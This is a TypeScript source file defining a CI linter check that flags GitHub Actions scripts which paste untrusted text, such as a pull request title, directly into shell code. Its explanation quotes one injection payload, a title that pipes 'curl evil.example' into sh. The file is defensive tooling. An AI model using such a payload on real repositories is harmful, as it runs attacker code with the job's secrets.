import { defineCheck } from '../../check.ts'

export const check = defineCheck({
  id: 'scripts-expand-no-foreign-text',
  about: 'workflow.script',
  asks: () => [{ kind: 'workflow.script' }],
  ifNone: 'not-applicable',
  title: 'No script of a workflow has text pasted into it that a stranger writes.',
  why: 'An expression is filled in before the shell sees the script. A pull request titled `"; curl evil.example | sh; "` runs as code, with the token and the secrets of the job.',
  fix: 'Pass the value through `env:` and use it as a quoted variable: `env: { TITLE: ${{ … }} }` and `"$TITLE"`.',
  samples: {
    bad: '      - run: echo "${{ github.event.pull_request.title }}"',
    good: '      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo "$TITLE"',
  },
  source: 'GitHub Docs, Script injections; zizmor, template-injection; OWASP CICD-SEC-4',
  blind:
    'Values that come by a detour: outputs of steps, inputs of called workflows and actions, files; text that a script evaluates itself.',
  confidence: 'high',
  judge: ({ data }) => {
    const [first] = data.injected
    const where = data.job === '' ? `step "${data.step}"` : `step "${data.step}" of job "${data.job}"`
    if (!first) return { verdict: 'conforms', observed: `${where} expands nothing a stranger writes` }
    const all = [...new Set(data.injected.map(i => i.context))].join(', ')
    // On a plain pull request the token of a fork reads only, and there are no secrets.
    const powerless = data.events.length > 0 && data.events.every(e => e === 'pull_request' || e === 'push')
    return {
      verdict: 'violates',
      observed: `expands ${all} in a script`,
      message: `${where} pastes ${all} into its script: whoever writes that text runs code in the job`,
      place: first.place,
      ...(powerless ? { severity: 'medium' } : {}),
    }
  },
})
